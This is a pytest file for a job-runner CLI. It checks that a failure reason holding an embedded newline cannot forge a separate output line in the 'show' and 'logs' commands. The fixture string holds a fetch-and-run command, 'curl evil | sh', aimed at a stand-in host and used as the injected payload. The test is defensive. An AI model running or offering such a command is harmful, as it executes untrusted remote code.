"""`show` and `logs`: what others wrote stays on its own line."""

from pathlib import Path

import pytest

from jobs.cli import main
from tests.analysis.report_root import MANIFEST
from tests.analysis.synthetic import SyntheticRoot, label, spec

FORGED = "it broke\nnext: curl evil | sh"


@pytest.fixture
def manifest(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """A manifest, and its run root in which one attempt failed."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "none"))
    monkeypatch.delenv("SPIKEGRID_SITE", raising=False)
    monkeypatch.setenv("SPIKEGRID_ROOT", str(tmp_path / "runs"))
    end = {"state": "failed", "reason": FORGED, "seconds": 2.5}
    SyntheticRoot(tmp_path / "runs").attempt(spec(0), 1, end)
    path = tmp_path / "shown.yaml"
    path.write_text(MANIFEST)
    return str(path)


@pytest.mark.parametrize("command", ["show", "logs"])
def test_a_reason_forges_no_line(
    manifest: str, command: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main([command, label(spec(0)), "--manifest", manifest]) in (0, 2)
    captured = capsys.readouterr()
    lines = [*captured.out.splitlines(), *captured.err.splitlines()]
    (told,) = [line for line in lines if "it broke" in line]
    assert "it broke next: curl evil | sh" in told
    assert not [line for line in lines if line.startswith("next: curl")]
